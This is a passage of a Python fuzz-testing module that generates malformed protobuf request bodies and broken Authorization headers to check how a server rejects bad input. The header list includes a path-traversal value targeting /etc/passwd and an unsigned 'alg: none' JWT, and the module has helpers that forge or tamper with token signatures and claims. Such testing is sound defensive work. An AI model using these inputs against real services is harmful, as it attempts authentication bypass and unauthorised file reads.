    """The rule of one item of a repeated field: present (an empty item is not "none")."""
    one = rules_pb2.FieldRule()
    one.CopyFrom(rule)
    one.max_items, one.required = 0, True
    return one


def _copy(msg: Message) -> Message:
    out = type(msg)()
    out.CopyFrom(msg)
    return out


def _bad_scalar(fd: FieldDescriptor, rule, frame: Frame) -> st.SearchStrategy:
    kind = rule.WhichOneof("kind")
    required = rule.required and not fd.is_repeated  # an item: only values wrong in themselves
    if kind in ("line", "text"):
        return _bad_text(getattr(rule, kind), required, kind == "line")
    if kind == "id":
        return _bad_id(rule.id, required)
    if kind == "word":
        return _bad_word(rule)
    if kind == "choice":
        return _bad_choice(fd, rule)
    if kind == "number":
        return _bad_number(fd, rule.number.min, rule.number.max)
    if kind == "page":
        return _bad_number(fd, 0, frame.limits.max_page)
    if kind == "time":
        return _bad_time(rule.time, frame, False).filter(lambda t: t is not None)
    raise LookupError(f"{fd.full_name}: cannot break a {kind} field")


@st.composite
def hostile_message(draw, descriptor: Descriptor, frame: Frame) -> tuple[Message, list[str]]:
    """A valid request with one or two rules broken, and the paths broken."""
    msg = draw(valid_message(descriptor, frame))
    broken = [draw(_break_message(msg, frame, ""))]
    if draw(st.integers(0, 3)) == 0:
        broken.append(draw(_break_message(msg, frame, "")))
    return msg, broken


# -- raw bodies --------------------------------------------------------------------------------

VARINT, I64, LEN, SGROUP, EGROUP, I32 = 0, 1, 2, 3, 4, 5
WIRE_OF = {
    FieldDescriptor.TYPE_DOUBLE: I64,
    FieldDescriptor.TYPE_FLOAT: I32,
    FieldDescriptor.TYPE_FIXED64: I64,
    FieldDescriptor.TYPE_SFIXED64: I64,
    FieldDescriptor.TYPE_FIXED32: I32,
    FieldDescriptor.TYPE_SFIXED32: I32,
    FieldDescriptor.TYPE_STRING: LEN,
    FieldDescriptor.TYPE_BYTES: LEN,
    FieldDescriptor.TYPE_MESSAGE: LEN,
}


def varint(n: int) -> bytes:
    n &= (1 << 64) - 1
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def tag(number: int, wire: int) -> bytes:
    return varint((number << 3) | wire)


def _payload(wire: int) -> st.SearchStrategy[bytes]:
    if wire == VARINT:
        return st.integers(0, 2**64 - 1).map(varint)
    if wire == I64:
        return st.binary(min_size=8, max_size=8)
    if wire == I32:
        return st.binary(min_size=4, max_size=4)
    if wire == LEN:
        return st.binary(max_size=64).map(lambda b: varint(len(b)) + b)
    return st.just(b"")


@st.composite
def _wrong_typed(draw, descriptor: Descriptor) -> bytes:
    """Fields sent with a wire type their declared type does not have."""
    out = b""
    for _ in range(draw(st.integers(1, 4))):
        fd = draw(st.sampled_from(list(descriptor.fields))) if descriptor.fields else None
        number = fd.number if fd is not None else draw(st.integers(1, 2**29 - 1))
        right = WIRE_OF.get(fd.type, VARINT) if fd is not None else None
        wire = draw(st.sampled_from([w for w in (VARINT, I64, LEN, I32) if w != right]))
        out += tag(number, wire) + draw(_payload(wire))
    return out


@st.composite
def _bad_utf8(draw, descriptor: Descriptor) -> bytes:
    strings = [fd for fd in descriptor.fields if fd.type == FieldDescriptor.TYPE_STRING]
    number = draw(st.sampled_from(strings)).number if strings else draw(st.integers(1, 20))
    bad = draw(
        st.sampled_from(
            (b"\xff\xfe", b"\xc3\x28", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\xc0\xaf", b"ok\x80", b"\xe2\x82")
        )
    )
    value = draw(st.binary(max_size=8)) + bad
    return tag(number, LEN) + varint(len(value)) + value


@st.composite
def _framing(draw, descriptor: Descriptor) -> bytes:
    """Broken framing: over-long varints, lengths past the end, deep or unbalanced groups."""
    number = draw(st.sampled_from([fd.number for fd in descriptor.fields] or [1]))
    way = draw(st.sampled_from(("varint", "length", "groups", "unbalanced", "zero_tag", "huge_tag")))
    if way == "varint":
        return tag(number, VARINT) + b"\xff" * draw(st.integers(10, 20))
    if way == "length":
        return tag(number, LEN) + varint(draw(st.sampled_from((2**31, 2**32 - 1, 2**63, 2**64 - 1, 100)))) + b"ab"
    if way == "groups":
        depth = draw(st.sampled_from((101, 1_000, 20_000)))
        return tag(9999, SGROUP) * depth + tag(9999, EGROUP) * depth
    if way == "unbalanced":
        return tag(9999, EGROUP) if draw(st.booleans()) else tag(9999, SGROUP) + tag(9998, EGROUP)
    if way == "zero_tag":
        return b"\x00" + draw(st.binary(max_size=8))
    return varint(2**35) + b"\x00"


@st.composite
def raw_body(draw, descriptor: Descriptor, frame: Frame) -> bytes:
    way = draw(st.sampled_from(("random", "random", "wrong_type", "utf8", "framing", "truncated", "trailing")))
    if way == "random":
        return draw(st.binary(max_size=512))
    if way == "wrong_type":
        return draw(_wrong_typed(descriptor))
    if way == "utf8":
        return draw(_bad_utf8(descriptor))
    if way == "framing":
        return draw(_framing(descriptor))
    body = draw(valid_message(descriptor, frame)).SerializeToString()
    if way == "truncated" and len(body) > 1:
        return body[: draw(st.integers(1, len(body) - 1))]
    return body + draw(st.binary(min_size=1, max_size=64))


GARBAGE_AUTHORIZATION = (
    "Bearer",
    "Bearer ",
    "Bearer x.y.z",
    "Basic dXNlcjpwYXNzd29yZA==",
    "Bearer " + "A" * 6000,
    "bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.",
    "Bearer ../../etc/passwd",
    "Token " + string.ascii_letters,
)


def forged(token: str) -> str:
    """The token with the first character of its signature changed (every bit of it counts)."""
    signed, _, signature = token.rpartition(".")
    return f"{signed}.{'B' if signature[0] != 'B' else 'C'}{signature[1:]}"


def tampered(token: str, **claims: str) -> str:
    """The token with `claims` changed and its signature kept."""
    prefix, body, signature = token.split(".")
    decoded = json.loads(base64.urlsafe_b64decode(body + "=" * (-len(body) % 4)))
    decoded.update(claims)
    body = base64.urlsafe_b64encode(json.dumps(decoded, separators=(",", ":")).encode()).rstrip(b"=").decode()
    return f"{prefix}.{body}.{signature}"
